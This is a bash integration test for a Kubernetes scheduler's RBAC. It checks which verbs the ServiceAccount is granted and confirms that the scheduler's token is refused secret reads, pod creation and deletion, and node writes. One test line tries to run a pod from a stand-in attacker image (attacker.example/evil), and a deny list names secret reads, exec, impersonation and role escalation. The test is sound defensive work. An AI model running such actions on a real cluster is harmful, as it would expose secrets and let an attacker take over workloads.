#!/usr/bin/env bash
# rbac_test.sh: what the scheduler's ServiceAccount may and may not do under manifests/rbac.yaml
# (issue 37, defect 8; docs/deploy.md, "RBAC"), on the real apiserver. `kubectl auth can-i
# --as=system:serviceaccount:kube-system:tessel-scheduler` answers for every verb the ClusterRole
# grants and for the ones it must not; then real attempts with the scheduler's own token: reading
# secrets, deleting or creating pods, updating a pod, changing a node, reading a PodTemplate are
# refused by RBAC. A pod patch, a PodTemplate delete and a ResourceClaim create or delete pass
# RBAC: the admission policies narrow them (admission_policy_test.sh). The scheduler's rights for the aggregated admin API
# (manifests/admin-api.yaml: its EndpointSlice and APIService by name, read and patched only; the
# front proxy's ConfigMap) are asked the same way, with that file's RBAC objects applied for it.
source "$(dirname "$0")/lib.sh"
it_begin rbac
# admin-api.yaml's RBAC objects (not its APIService: one that no scheduler serves would leave the
# API server's discovery failing for other tests), removed at the end unless they were there.
ADMIN_API_RBAC="$IT_WORK/admin-api-rbac.yaml"
python3 - "$TESSEL_ROOT/manifests/admin-api.yaml" >"$ADMIN_API_RBAC" <<'PY'
import sys, yaml
docs = [d for d in yaml.safe_load_all(open(sys.argv[1])) if d and d["kind"] in
        ("Role", "RoleBinding", "ClusterRole", "ClusterRoleBinding")]
print(yaml.safe_dump_all(docs))
PY
admin_api_rbac_created=0
kubectl get -f "$ADMIN_API_RBAC" >/dev/null 2>&1 || admin_api_rbac_created=1
cleanup_rbac() {
  ((admin_api_rbac_created)) && kubectl delete -f "$ADMIN_API_RBAC" --ignore-not-found >/dev/null 2>&1
  return 0
}
trap 'rc=$?; cleanup_rbac; (exit $rc); it_cleanup' EXIT
kubectl apply -f "$ADMIN_API_RBAC" >/dev/null
# RBAC takes effect through the API server's authorizer cache.
it_wait 30 "admin-api.yaml's RBAC in effect" eval \
  "[[ \$(kubectl auth can-i --as=system:serviceaccount:kube-system:tessel-scheduler patch apiservices.apiregistration.k8s.io/v1alpha1.admin.tessel.io 2>/dev/null) == yes ]]"

SA=system:serviceaccount:kube-system:tessel-scheduler
can() { kubectl auth can-i --as="$SA" "$@" 2>/dev/null || true; }
# expect yes|no VERB RESOURCE [ARGS...]
expect() {
  local want=$1; shift
  local got
  got=$(can "$@")
  [[ $got == "$want" ]] || fail "can-i $*: '$got', want $want"
}

# What scheduling needs.
for args in "get pods -A" "list pods -A" "watch pods -A" "create pods --subresource=binding -A" "create pods --subresource=eviction -A" \
    "patch pods --subresource=status -A" "list nodes" "watch nodes" "list priorityclasses.scheduling.k8s.io" \
    "create events -A" "patch events -A" "create events.events.k8s.io -A" \
    "list persistentvolumeclaims -A" "patch persistentvolumeclaims -A" "patch persistentvolumes" \
    "list namespaces" "list poddisruptionbudgets.policy -A" "list jobs.batch -A" \
    "create podtemplates -A" "delete podtemplates -A" "list podtemplates -A" \
    "patch pods -A" "create tokenreviews.authentication.k8s.io" "create subjectaccessreviews.authorization.k8s.io" \
    "list resourceslices.resource.k8s.io" "watch deviceclasses.resource.k8s.io" "list resourceclaims.resource.k8s.io -A" \
    "patch resourceclaims.resource.k8s.io --subresource=status -A" \
    "update resourceclaims.resource.k8s.io --subresource=status -A" \
    "patch resourceclaims.resource.k8s.io --subresource=binding -A" "patch resourceclaims.resource.k8s.io -A" \
    "create resourceclaims.resource.k8s.io -A" "delete resourceclaims.resource.k8s.io -A"; do
  # shellcheck disable=SC2086
  expect yes $args
done
expect yes get leases.coordination.k8s.io/tessel-scheduler -n kube-system
expect yes update leases.coordination.k8s.io/tessel-scheduler -n kube-system
# What it must not do.
for args in "update pods -A" "delete pods -A" "create pods -A" "deletecollection pods -A" \
    "get secrets -A" "list secrets -A" "get configmaps -A" "update nodes" "patch nodes" "delete nodes" \
    "update pods --subresource=status -A" "update events -A" "update podtemplates -A" "patch podtemplates -A" \
    "get podtemplates -A" "deletecollection podtemplates -A" "update persistentvolumeclaims -A" \
    "update persistentvolumes" "create serviceaccounts --subresource=token -A" "impersonate users" \
    "escalate clusterroles.rbac.authorization.k8s.io" "bind clusterroles.rbac.authorization.k8s.io" \
    "create pods --subresource=exec -A" "delete namespaces" "update queues.tessel.io" "patch priorityclasses.scheduling.k8s.io" \
    "update resourceclaims.resource.k8s.io -A" "deletecollection resourceclaims.resource.k8s.io -A" \
    "create resourceslices.resource.k8s.io" "patch deviceclasses.resource.k8s.io"; do
  # shellcheck disable=SC2086
  expect no $args
done
expect no update leases.coordination.k8s.io/someone-else -n kube-system
expect no update leases.coordination.k8s.io/tessel-scheduler -n "$NS"
# The aggregated admin API (admin-api.yaml): the leader reads and merge-patches its Service's
# EndpointSlice and the APIService's caBundle, by name, and reads the front proxy's ConfigMap.
expect yes get endpointslices.discovery.k8s.io/tessel-admin-api -n kube-system
expect yes patch endpointslices.discovery.k8s.io/tessel-admin-api -n kube-system
expect yes get apiservices.apiregistration.k8s.io/v1alpha1.admin.tessel.io
expect yes patch apiservices.apiregistration.k8s.io/v1alpha1.admin.tessel.io
expect yes get configmaps/extension-apiserver-authentication -n kube-system
for args in "update endpointslices.discovery.k8s.io/tessel-admin-api -n kube-system" \
    "delete endpointslices.discovery.k8s.io/tessel-admin-api -n kube-system" \
    "create endpointslices.discovery.k8s.io -n kube-system" "patch endpointslices.discovery.k8s.io/kubernetes -n default" \
    "list endpointslices.discovery.k8s.io -A" "update apiservices.apiregistration.k8s.io/v1alpha1.admin.tessel.io" \
    "patch apiservices.apiregistration.k8s.io/v1.apps" "create apiservices.apiregistration.k8s.io" \
    "get configmaps/kube-proxy -n kube-system" "update configmaps/extension-apiserver-authentication -n kube-system"; do
  # shellcheck disable=SC2086
  expect no $args
done
say "can-i: every granted verb yes, the rest no"

# Real attempts with the scheduler's token.
as_scheduler() { kubectl --kubeconfig "$SCHED_KUBECONFIG" "$@"; }
forbidden() {
  local what=$1; shift
  local out
  if out=$("$@" 2>&1); then fail "the scheduler's token could $what"; fi
  [[ $out == *"Forbidden"* || $out == *"forbidden"* ]] || fail "$what failed, but not as forbidden: $out"
}
kubectl create secret generic -n "$NS" s --from-literal=k=v >/dev/null
it_nodes rbac-0:1
it_pod p --select pool=none
kubectl apply -f - >/dev/null <<YAML
apiVersion: v1
kind: PodTemplate
metadata: {name: team-template, namespace: $NS}
template: {spec: {containers: [{name: main, image: busybox}]}}
YAML
forbidden "read a secret" as_scheduler get secret -n "$NS" s
forbidden "delete a pod" as_scheduler delete pod -n "$NS" p --wait=false
forbidden "create a pod" as_scheduler run -n "$NS" evil --image=attacker.example/evil:1 --restart=Never
forbidden "update a pod" as_scheduler replace -f <(kubectl get pod -n "$NS" p -o json)
forbidden "label a node" as_scheduler label node rbac-0 owned=yes
forbidden "read a PodTemplate" as_scheduler get podtemplate -n "$NS" team-template
say "scheduler token: secrets, pod create/delete/update, node writes and template reads refused"
exit 0
